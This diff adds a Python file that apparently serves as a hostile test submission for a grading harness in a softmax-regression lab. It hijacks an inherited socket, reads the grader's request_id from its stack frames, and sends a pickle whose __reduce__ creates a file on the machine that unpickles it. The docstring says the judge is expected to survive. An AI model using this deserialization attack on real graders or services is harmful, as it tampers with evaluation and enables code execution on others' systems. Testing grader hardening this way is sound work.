@@ -1,0 +1,61 @@
+"""Sends a pickle that would create a file in whoever loads it.
+
+Lab: softmax_regression
+Honest: the attempt's credit and little else: softmax is wrong and the manual step does nothing.
+Expected: the check fails as for any crash or wrong answer; never void, the judge and its memory
+  unharmed.
+"""
+
+import os
+import pickle
+import socket
+import struct
+import sys
+
+import torch.nn as nn
+
+
+def wire(name):
+    return sys.modules["gradekit.wire." + name]
+
+
+def line():
+    return socket.socket(fileno=os.dup(3))
+
+
+def asked():
+    frame = sys._getframe()
+    while frame is not None:
+        if "request_id" in frame.f_locals:
+            return frame.f_locals["request_id"]
+        frame = frame.f_back
+    return 1
+
+
+def frame(header, payload=b"", announced=None):
+    size = len(payload) if announced is None else announced
+    return struct.pack("<IIQQ", 0x67726B31, len(header), size, asked()) + header + payload
+
+
+class Opens:
+    def __reduce__(self):
+        return open, ("/tmp/gradekit-pwned-31", "w")
+
+
+def softmax(X):
+    data = pickle.dumps({"softmax": Opens()})
+    line().sendall(frame(data) + data)
+    return Opens()
+
+
+class SoftmaxRegression(nn.Module):
+    def __init__(self, num_inputs, num_outputs):
+        super().__init__()
+        self.linear = nn.Linear(num_inputs, num_outputs)
+        self.lr = 0.1
+
+    def forward(self, X):
+        return softmax(self.linear(X))
+
+    def manual_backward(self, X, y, y_hat):
+        return None
